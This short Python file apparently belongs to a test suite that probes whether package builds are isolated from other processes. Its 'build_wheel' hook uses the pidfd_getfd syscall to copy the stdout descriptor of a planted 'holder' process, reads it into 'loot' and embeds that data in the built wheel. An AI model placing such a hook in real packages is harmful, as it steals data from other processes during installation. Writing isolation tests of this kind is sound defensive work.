"""Copies the standard output of a planted process, which is an open file, and reads it."""

import ctypes
import os

import kit

PIDFD_GETFD = 438  # the same on every architecture


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("take"):
        libc = ctypes.CDLL(None, use_errno=True)
        holder = os.pidfd_open(kit.callable_pid("holder"))
        copy = libc.syscall(PIDFD_GETFD, holder, 1, 0)
        if copy < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        loot["data.bin"] = os.pread(copy, 4096, 0)
    return kit.wheel(wheel_directory, loot)
